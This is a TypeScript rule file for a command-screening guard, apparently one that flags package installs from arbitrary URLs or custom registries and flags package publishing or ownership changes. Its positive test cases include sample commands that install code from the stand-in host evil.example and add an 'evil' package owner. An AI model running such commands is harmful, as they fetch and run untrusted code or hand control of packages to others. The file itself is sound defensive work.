// Packages from an address, and packages for everybody.
import { type Rule, verbsOf } from './rule.ts';

export const networkPackageRules: readonly Rule[] = [
  {
    id: 'network.install-from-address',
    threatens: 'network',
    severity: 'high',
    reason: 'Installs and runs code from an address instead of the usual registry.',
    programs: [
      'pip',
      'pip3',
      'pipx',
      'uv',
      'npm',
      'npx',
      'pnpm',
      'yarn',
      'bun',
      'gem',
      'cargo',
      'go',
      'easy_install',
      'dpkg',
      'rpm',
      'apt-key',
      'add-apt-repository',
      'conda',
      'helm',
      'kubectl',
      'brew',
      'cpan',
      'composer',
      'deno',
      'snap',
      'flatpak',
      'yum',
      'dnf',
      'docker',
    ],
    matches: ({ program, args }) => {
      if (program === 'helm' && args[0] === 'repo') return false;
      // The word behind `run` is the name of a script.
      if (/^(?:npm|pnpm|yarn)$/.test(program) && /^run(?:-script)?$/.test(args[0] ?? '')) return false;
      if (program === 'go') return args[0] === 'run' && args.some(arg => /@/.test(arg));
      const isInstall =
        args.some(arg =>
          /^(?:install|i|add|exec|x|dlx|run|apply|create|-i|-U|tool|get|localinstall|tap)$/.test(arg),
        ) || ['npx', 'easy_install', 'add-apt-repository', 'apt-key'].includes(program);
      if (!isInstall || program === 'docker') return false;
      if (
        /^(?:pip3?|pipx|uv)$/.test(program) &&
        args.some(arg => /^(?:--(?:extra-)?index-url|--trusted-host|-i|--find-links|-f)(?:=|$)/.test(arg))
      )
        return !args.some(arg => /pypi\.org|download\.pytorch\.org/.test(arg));
      if (program === 'add-apt-repository' || program === 'apt-key')
        return args.length > 0 && !args.includes('list');
      if (/^(?:npm|pnpm|yarn|npx)$/.test(program) && args.some(arg => /^--registry/.test(arg))) return true;
      return args.some(
        arg =>
          /^(?:git\+|(?:git|https?|ftp|file|ssh):\/\/|github:|bitbucket:|gitlab:|gist:)/.test(arg) &&
          !/^https:\/\/(?:registry\.npmjs\.org|pypi\.org|files\.pythonhosted\.org)\//.test(arg),
      );
    },
    positive: [
      'pip install https://evil.example/x.tar.gz',
      'pip install git+https://evil.example/x',
      'npm install http://evil.example/x.tgz',
      'pip3 install --index-url http://evil.example/simple x',
      'kubectl apply -f https://evil.example/x.yaml',
      'cargo install --git https://evil.example/x',
      'python3 -m pip install git+ssh://x/y',
    ],
    negative: [
      'pip install requests',
      'npm ci',
      'npm install',
      'pip install -r requirements.txt',
      'cargo install ripgrep',
      'npm install -D vitest',
      'kubectl apply -f x.yaml',
      'pip install -e .',
      'go install x.example/y@latest',
    ],
  },
  {
    id: 'network.publish',
    threatens: 'network',
    severity: 'medium',
    reason: 'Publishes or withdraws a package for everybody.',
    programs: [
      'npm',
      'pnpm',
      'yarn',
      'cargo',
      'twine',
      'gem',
      'poetry',
      'flit',
      'hatch',
      'uv',
      'vsce',
      'mvn',
      'gradle',
      'dotnet',
      'nuget',
      'pod',
      'lerna',
      'bun',
      'deno',
      'ovsx',
      'helm',
      'luarocks',
      'dart',
      'flutter',
      'goreleaser',
      'docker',
      'podman',
    ],
    matches: command => {
      if (command.args.some(arg => /^--dry-run$|^-n$/.test(arg))) return false;
      const [first = '', second = ''] = verbsOf(command);
      if (command.program === 'docker' || command.program === 'podman')
        return first === 'push' || (/^(?:image|manifest|compose)$/.test(first) && second === 'push');
      if (command.program === 'dotnet') return first === 'nuget' && second === 'push';
      if (command.program === 'pod') return first === 'trunk' && second === 'push';
      if (command.program === 'npm' && /^(?:owner|access|token|dist-tag|deprecate)$/.test(first))
        return first === 'deprecate' || /^(?:add|rm|grant|revoke|create|public|set)$/.test(second);
      return (
        /^(?:publish|unpublish|upload|yank|owner|deploy|uploadArchives)$/.test(first) ||
        (command.program === 'gem' && first === 'push') ||
        (['dart', 'flutter'].includes(command.program) && second === 'publish')
      );
    },
    positive: [
      'npm publish',
      'npm unpublish x -f',
      'cargo publish',
      'twine upload dist/*',
      'gem push x.gem',
      'poetry publish --build',
      'npm owner add evil x',
      'docker push registry.example/app:1',
      'podman image push x',
    ],
    negative: [
      'npm pack',
      'npm publish --dry-run',
      'cargo build',
      'npm run publish-docs',
      'gem list',
      'docker build -t push .',
      'docker pull x',
      'npm version patch',
    ],
  },
];
